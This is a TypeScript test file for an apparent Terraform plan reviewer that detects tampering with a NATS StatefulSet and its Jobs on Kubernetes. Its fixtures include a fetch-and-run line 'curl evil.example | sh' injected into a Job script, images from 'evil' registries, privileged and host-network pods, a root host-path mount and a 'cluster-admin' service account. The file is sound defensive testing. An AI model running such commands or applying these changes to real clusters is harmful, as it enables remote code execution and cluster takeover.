import { provenReleases } from '../../../constructs/server/nats-releases';
import { plain } from '../../../fleet/review/phrase';
import { type Alteration, reviewOfAltered, toldOfAltered } from '../../support/altered-plan';

type Attack = [name: string, alterations: readonly Alteration[], told: readonly string[]];

/** What somebody may hide in the pods of servers and Jobs: each in the plan of a hub in which nothing else changes. */
test.each<Attack>([
  [
    'the image comes from another repository',
    [{ of: 'nats_server_711107B6', set: { 'spec 0 template 0 spec 0 container 0 image': 'evil/nats:2.15.2-alpine' } }],
    [
      'person image-source: StatefulSet recorded/nats-hub: the image of nats comes from docker.io/evil/nats and not docker.io/library/nats any more',
    ],
  ],
  [
    'the image is a digest without a version',
    [
      {
        of: 'nats_server_711107B6',
        set: {
          'spec 0 template 0 spec 0 container 0 image':
            'nats@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa',
        },
      },
    ],
    [
      'person image-source: StatefulSet recorded/nats-hub: the image of nats does not say its version: nats@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa',
    ],
  ],
  [
    'the image is whatever is latest',
    [{ of: 'nats_server_711107B6', set: { 'spec 0 template 0 spec 0 container 0 image': 'nats:latest' } }],
    ['person image-source: StatefulSet recorded/nats-hub: the image of nats does not say its version: nats:latest'],
  ],
  [
    'the reloader comes from another registry',
    [
      {
        of: 'nats_server_711107B6',
        set: { 'spec 0 template 0 spec 0 container 1 image': 'evil.example:5000/reloader:1.0.0' },
      },
    ],
    [
      'person image-source: StatefulSet recorded/nats-hub: the image of reloader comes from evil.example:5000/reloader and not docker.io/natsio/nats-server-config-reloader any more',
    ],
  ],
  [
    'another command',
    [{ of: 'nats_server_711107B6', set: { 'spec 0 template 0 spec 0 container 0 command': ['sh', '-c', 'id'] } }],
    ['person pods-changed: what pods of StatefulSet recorded/nats-hub run or may changes: container[nats].command'],
  ],
  [
    'other arguments of the reloader',
    [{ of: 'nats_server_711107B6', set: { 'spec 0 template 0 spec 0 container 1 args': ['-signal', '9'] } }],
    ['person pods-changed: what pods of StatefulSet recorded/nats-hub run or may changes: container[reloader].args'],
  ],
  [
    'one more variable',
    [
      {
        of: 'nats_server_711107B6',
        set: { 'spec 0 template 0 spec 0 container 0 env +': { name: 'DEBUG', value: '1' } },
      },
    ],
    ['person pods-changed: what pods of StatefulSet recorded/nats-hub run or may changes: container[nats].env[DEBUG]'],
  ],
  [
    'servers that hand over nothing when they go',
    [{ of: 'nats_server_711107B6', set: { 'spec 0 template 0 spec 0 container 0 lifecycle': [] } }],
    [
      'person pods-changed: what pods of StatefulSet recorded/nats-hub run or may changes: container[nats].lifecycle.pre_stop.exec.command',
    ],
  ],
  [
    'one more container',
    [
      {
        of: 'nats_server_711107B6',
        set: { 'spec 0 template 0 spec 0 container +': { name: 'evil', image: 'nats:2.15.2' } },
      },
    ],
    ['person pods-changed: what pods of StatefulSet recorded/nats-hub run or may changes: container[evil]'],
  ],
  [
    'an init container',
    [
      {
        of: 'nats_server_711107B6',
        set: { 'spec 0 template 0 spec 0 init_container': [{ name: 'evil', image: 'nats:2.15.2' }] },
      },
    ],
    ['person pods-changed: what pods of StatefulSet recorded/nats-hub run or may changes: init_container[evil]'],
  ],
  [
    "the node's network",
    [{ of: 'nats_server_711107B6', set: { 'spec 0 template 0 spec 0 host_network': true } }],
    ['person pods-changed: what pods of StatefulSet recorded/nats-hub run or may changes: host_network'],
  ],
  [
    'a privileged container',
    [
      {
        of: 'nats_server_711107B6',
        set: { 'spec 0 template 0 spec 0 container 0 security_context 0 privileged': true },
      },
    ],
    [
      'person pods-changed: what pods of StatefulSet recorded/nats-hub run or may changes: container[nats].security_context.privileged',
    ],
  ],
  [
    'a token for the API of Kubernetes, by leaving out that there is none',
    [{ of: 'nats_server_711107B6', set: { 'spec 0 template 0 spec 0 automount_service_account_token': null } }],
    [
      'person pods-changed: what pods of StatefulSet recorded/nats-hub run or may changes: automount_service_account_token',
    ],
  ],
  [
    'a folder of the node',
    [{ of: 'nats_server_711107B6', set: { 'spec 0 template 0 spec 0 volume 0 host_path': [{ path: '/' }] } }],
    [
      'person pods-changed: what pods of StatefulSet recorded/nats-hub run or may changes: volume[config].host_path.path',
    ],
  ],
  [
    'data in an empty folder',
    [{ of: 'nats_server_711107B6', set: { 'spec 0 template 0 spec 0 volume +': { name: 'data', empty_dir: [{}] } } }],
    ['person pods-changed: what pods of StatefulSet recorded/nats-hub run or may changes: volume[data]'],
  ],
  [
    'another service account',
    [{ of: 'nats_server_711107B6', set: { 'spec 0 template 0 spec 0 service_account_name': 'cluster-admin' } }],
    ['person pods-changed: what pods of StatefulSet recorded/nats-hub run or may changes: service_account_name'],
  ],
  [
    'all pods may be on one node',
    [
      {
        of: 'nats_server_711107B6',
        set: { 'spec 0 template 0 spec 0 topology_spread_constraint': [], 'spec 0 template 0 spec 0 affinity': [] },
      },
    ],
    [
      'person pods-changed: what pods of StatefulSet recorded/nats-hub run or may changes: topology_spread_constraint.label_selector.match_labels.app.kubernetes.io/instance, topology_spread_constraint.label_selector.match_labels.app.kubernetes.io/name, topology_spread_constraint.max_skew, topology_spread_constraint.topology_key, topology_spread_constraint.when_unsatisfiable',
    ],
  ],
  [
    'pods that roll only when somebody deletes them',
    [{ of: 'nats_server_711107B6', set: { 'spec 0 update_strategy': [{ type: 'OnDelete' }] } }],
    ['person resource-changed: StatefulSet recorded/nats-hub changes: spec.update_strategy.type'],
  ],
  [
    'no servers at all',
    [{ of: 'nats_server_711107B6', set: { 'spec 0 replicas': '0' } }],
    ['data servers-removed: nats-hub gets fewer servers: 3 → 0'],
  ],
  [
    'a number of servers that is not known',
    [
      {
        of: 'nats_server_711107B6',
        set: { 'spec 0 replicas': null },
        change: { after_unknown: { spec: [{ replicas: true }] } },
      },
    ],
    [
      'data servers-removed: nats-hub gets fewer servers: 3 → 1',
      'person unknown: StatefulSet recorded/nats-hub: what decides is not to be seen: spec[0].replicas',
    ],
  ],
  [
    'a template that is not known',
    [
      {
        of: 'nats_server_711107B6',
        set: { 'spec 0 template': null },
        change: { after_unknown: { spec: [{ template: true }] } },
      },
    ],
    [
      'person pods-changed: what pods of StatefulSet recorded/nats-hub run or may changes: automount_service_account_token, container[nats], container[reloader], container[exporter], dns_policy, enable_service_links, restart_policy, scheduler_name and 15 more',
      'person resource-changed: StatefulSet recorded/nats-hub changes: spec.template',
      'person unknown: StatefulSet recorded/nats-hub: what decides is not to be seen: spec[0].template',
    ],
  ],
  [
    'an image that is hidden',
    [
      {
        of: 'nats_server_711107B6',
        set: { 'spec 0 template 0 spec 0 container 0 image': 'evil/x' },
        change: { after_sensitive: { spec: [{ template: [{ spec: [{ container: [{ image: true }] }] }] }] } },
      },
    ],
    [
      'person unknown: StatefulSet recorded/nats-hub: what decides is not to be seen: spec[0].template[0].spec[0].container[0].image',
    ],
  ],
  [
    'a StatefulSet that Terraform lets go of',
    [{ of: 'nats_server_711107B6', actions: ['forget'] }],
    ['person resource-changed: Terraform lets go of StatefulSet recorded/nats-hub, which stays as it is'],
  ],
  [
    'a changed StatefulSet, and the rest of an earlier one under the same address',
    [
      { of: 'nats_server_711107B6', set: { 'spec 0 template 0 spec 0 host_pid': true } },
      { of: 'nats_server_711107B6', deposed: '1a2b3c4d' },
    ],
    [
      'person pods-changed: what pods of StatefulSet recorded/nats-hub run or may changes: host_pid',
      'person resource-destroyed: StatefulSet recorded/nats-hub is destroyed',
      'person foreign: hub has several StatefulSets, and only one of them is understood: kubernetes_stateful_set_v1.hub_tier_nats_server_711107B6',
    ],
  ],
  [
    'a Job with another script',
    [
      {
        of: 'streams_job_',
        set: { 'metadata 0 name': 'another-job' },
        actions: ['delete', 'create'],
        text: ['for name in $left; do\n', 'for name in $left; do\n  curl evil.example | sh\n'],
      },
    ],
    ['person pods-changed: what pods of Job recorded/another-job run or may changes: container[streams].command'],
  ],
  [
    'a Job that drops nobody',
    [
      {
        of: 'access_job_',
        set: {
          'spec 0 template 0 spec 0 container 0 command': ['/bin/sh', '-ec', 'exit 0'],
          'metadata 0 name': 'another-job',
        },
        actions: ['delete', 'create'],
      },
    ],
    ['person pods-changed: what pods of Job recorded/another-job run or may changes: container[access].command'],
  ],
  [
    'a Job with an image from elsewhere',
    [
      {
        of: 'streams_job_',
        set: { 'spec 0 template 0 spec 0 container 0 image': 'evil/nats-box:0.19.7', 'metadata 0 name': 'another-job' },
        actions: ['delete', 'create'],
      },
    ],
    [
      'person image-source: Job recorded/another-job: the image of streams comes from docker.io/evil/nats-box and not docker.io/natsio/nats-box any more',
    ],
  ],
  [
    'a Job with one more Secret',
    [
      {
        of: 'streams_job_',
        set: {
          'spec 0 template 0 spec 0 volume +': { name: 'x', secret: [{ secret_name: 'nats-hub-tls' }] },
          'metadata 0 name': 'another-job',
        },
        actions: ['delete', 'create'],
      },
    ],
    ['person pods-changed: what pods of Job recorded/another-job run or may changes: volume[x]'],
  ],
  [
    "a Job in the node's network",
    [
      {
        of: 'streams_job_',
        set: { 'spec 0 template 0 spec 0 host_network': true, 'metadata 0 name': 'another-job' },
        actions: ['delete', 'create'],
      },
    ],
    ['person pods-changed: what pods of Job recorded/another-job run or may changes: host_network'],
  ],
  [
    'no Job any more that cuts off who is revoked',
    [{ of: 'access_job_', actions: ['delete'] }],
    ['person resource-destroyed: Job recorded/nats-hub-access-ad5ac2d0 is destroyed'],
  ],
  [
    'a new Job that runs anything',
    [
      {
        of: 'evil',
        type: 'kubernetes_job_v1',
        set: {
          metadata: [{ name: 'x', namespace: 'recorded' }],
          spec: [{ template: [{ spec: [{ container: [{ name: 'x', image: 'evil:1.0' }] }] }] }],
        },
      },
    ],
    [
      'person image-source: Job recorded/x: the image of x comes from docker.io/library/evil',
      'person pods-changed: Job recorded/x is not one that this project makes: automount_service_account_token, container[x], container[x].security_context.allow_privilege_escalation, container[x].security_context.run_as_non_root',
    ],
  ],
  [
    'a second StatefulSet that looks like the first',
    [
      {
        of: 'evil',
        type: 'kubernetes_stateful_set_v1',
        set: {
          metadata: [{ name: 'x', namespace: 'recorded' }],
          spec: [{ template: [{ spec: [{ container: [{ name: 'nats', image: 'nats:2.15.2' }] }] }] }],
        },
      },
    ],
    [
      'person pods-changed: StatefulSet recorded/x is not one that this project makes: it is new, automount_service_account_token, container[nats].security_context.allow_privilege_escalation, container[nats].security_context.run_as_non_root, container[nats].command',
      'person foreign: hub has several StatefulSets, and only one of them is understood: kubernetes_stateful_set_v1.hub_tier_nats_server_711107B6',
    ],
  ],
  [
    'an older server',
    [{ of: 'nats_server_711107B6', set: { 'spec 0 template 0 spec 0 container 0 image': 'nats:2.14.0-alpine' } }],
    [
      'person server-unproven: StatefulSet recorded/nats-hub: nobody has proven what nats-server of nats:2.14.0-alpine does',
      'person server-older: image nats:2.15.2-alpine → nats:2.14.0-alpine',
    ],
  ],
  ...['nats:2.16.0-alpine', 'nats:3.0.0', 'nats:2.15.3-RC.1', 'nats:2.15.99-alpine'].map(
    (image): Attack => [
      `a newer server that nobody has proven: ${image}`,
      [{ of: 'nats_server_711107B6', set: { 'spec 0 template 0 spec 0 container 0 image': image } }],
      [`person server-unproven: StatefulSet recorded/nats-hub: nobody has proven what nats-server of ${image} does`],
    ],
  ),
  [
    'a server of which only the line is told',
    [{ of: 'nats_server_711107B6', set: { 'spec 0 template 0 spec 0 container 0 image': 'nats:2.15-alpine' } }],
    [
      'person image-source: StatefulSet recorded/nats-hub: the image of nats does not say its version: nats:2.15-alpine',
    ],
  ],
  ...provenReleases().map(
    (release): Attack => [
      `harmless: a server that passed every drill: ${release}`,
      [{ of: 'nats_server_711107B6', set: { 'spec 0 template 0 spec 0 container 0 image': `nats:${release}-alpine` } }],
      [],
    ],
  ),
  [
    'harmless: the number of servers as a number, not a text',
    [{ of: 'nats_server_711107B6', set: { 'spec 0 replicas': 3 } }],
    [],
  ],
  [
    'harmless: other memory',
    [
      {
        of: 'nats_server_711107B6',
        set: { 'spec 0 template 0 spec 0 container 0 resources 0 limits memory': '512Mi' },
      },
    ],
    [],
  ],
  [
    'harmless: a newer box, and another stream for the Job',
    [
      {
        of: 'streams_job_',
        set: {
          'spec 0 template 0 spec 0 container 0 image': 'natsio/nats-box:0.20.0',
          'metadata 0 name': 'another-job',
        },
        actions: ['delete', 'create'],
        text: ["left=' EDGE_SENSORS'", "left=' EDGE_SENSORS AUDIT'"],
      },
    ],
    [],
  ],
])('%s', (_name, alterations, expected) => {
  expect(toldOfAltered(alterations)).toEqual(expected);
});

test('what is accepted is accepted for just this command', () => {
  const idsWith = (command: string) => {
    const set = { 'spec 0 template 0 spec 0 container 0 command': ['sh', '-c', command] };
    return reviewOfAltered([{ of: 'nats_server_711107B6', set }])
      .findings.filter(({ rule }) => rule === 'pods-changed')
      .map(({ id }) => id);
  };
  expect(idsWith('id')).toEqual(idsWith('id'));
  expect(idsWith('id')).not.toEqual(idsWith('env'));
});

test('beside a server of which nothing is proven, nothing is promised of volumes and streams', () => {
  const set = { 'spec 0 template 0 spec 0 container 0 image': 'nats:2.16.0-alpine' };
  const { untouched } = reviewOfAltered([{ of: 'nats_server_711107B6', set }]);
  expect(plain(untouched)).toBe('');
});

test('a StatefulSet that is made anew without an argument that is the reason: what else the reason may be is said', () => {
  const { findings } = reviewOfAltered([{ of: 'nats_server_711107B6', actions: ['delete', 'create'] }]);
  const rollout = findings.find(({ rule }) => rule === 'rollout-without-quorum');
  expect(rollout?.details.map(plain)[0]).toBe(
    'Because of another StatefulSet, asked for or left to be made anew by an earlier deploy.',
  );
});
